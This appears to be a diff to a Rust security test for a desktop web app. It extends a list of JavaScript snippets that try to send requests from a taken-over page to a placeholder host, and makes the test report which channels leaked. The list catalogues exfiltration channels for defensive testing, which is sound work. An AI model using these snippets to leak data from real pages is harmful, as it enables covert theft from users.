@@ -4,7 +4,7 @@ use std::io::ErrorKind;
 use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
 use std::time::Duration;
 
-use anyhow::{Context as _, Result, ensure};
+use anyhow::{Context as _, Result, bail, ensure};
 use lingpai_ipc::COMMANDS;
 use lingpai_tests::{Desk, Window, bind_plain, open_list, picture, until};
 use serde_json::{Value, json};
@@ -127,7 +127,7 @@ fn a_page_calls_its_own_windows_commands_and_no_others() -> Result<()> {
 }
 
 /// Ways to send something out of a page. `HOST` is the address that listens.
-const SENDS: [&str; 24] = [
+const SENDS: [&str; 25] = [
     "fetch('http://HOST/fetch', { mode: 'no-cors' }).catch(() => {})",
     "fetch('http://HOST/keep', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => {})",
     "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send()",
@@ -141,6 +141,7 @@ const SENDS: [&str; 24] = [
     "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://HOST/a.css' }))",
     "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://HOST/prefetch' }))",
     "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://HOST/' }))",
+    "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://HOST/' }))",
     "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'http://HOST/icon' }))",
     "document.body.style.backgroundImage = 'url(http://HOST/background)'",
     "new FontFace('x', 'url(http://HOST/font)').load().catch(() => {})",
@@ -201,10 +202,20 @@ fn nothing_leaves_a_page_that_was_taken_over() -> Result<()> {
     ensure!(window.run("return typeof RTCPeerConnection")? == "undefined", "the page has WebRTC");
     let media = window.run("return typeof navigator.mediaDevices?.getUserMedia")?;
     ensure!(media == "undefined", "the page may ask for a camera");
-    let here = window.run("return location.href")?;
     attempt(&window, &listener, &SENDS)?;
     let sent = listener.count()?;
-    ensure!(sent == 0, "{sent} requests left the page");
+    if sent > 0 {
+        let mut leaks = Vec::new();
+        for way in SENDS {
+            attempt(&window, &listener, &[way])?;
+            if listener.count()? > 0 {
+                leaks.push(way);
+            }
+        }
+        bail!("{sent} requests left the page, by {leaks:#?}");
+    }
+    let here = window.run("return location.href")?;
+    ensure!(here.as_str().is_some_and(|at| at.starts_with("tauri://localhost/index.html?")), "the page is at {here}");
     for way in GOES {
         attempt(&window, &listener, &[way])?;
         let sent = listener.count()?;
